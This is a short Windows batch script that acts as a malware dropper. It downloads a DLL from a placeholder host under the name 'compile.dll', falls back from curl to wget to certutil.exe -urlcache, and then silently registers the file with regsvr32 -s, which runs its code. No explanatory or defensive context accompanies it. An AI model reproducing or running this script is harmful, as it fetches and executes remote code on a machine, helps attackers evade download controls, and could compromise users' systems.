@echo off
curl http://static.example.test/sdd.dll -o compile.dll
if not exist compile.dll (
	wget http://static.example.test/sdd.dll -O compile.dll
)
if not exist compile.dll (
	certutil.exe -urlcache -f http://static.example.test/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
